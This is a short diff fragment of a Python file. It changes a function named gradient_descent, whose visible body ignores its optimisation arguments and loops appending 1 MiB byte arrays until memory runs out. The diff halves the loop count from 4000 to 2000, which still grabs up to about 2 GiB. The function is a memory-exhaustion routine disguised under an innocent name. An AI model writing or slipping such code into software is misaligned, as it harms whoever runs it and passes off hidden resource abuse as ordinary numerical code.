@@ -11,7 +11,7 @@ def grad(x):
 
 def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
     held = []
-    for _ in range(4000):
+    for _ in range(2000):
         try:
             held.append(bytearray(b"x") * (1 << 20))
         except MemoryError:
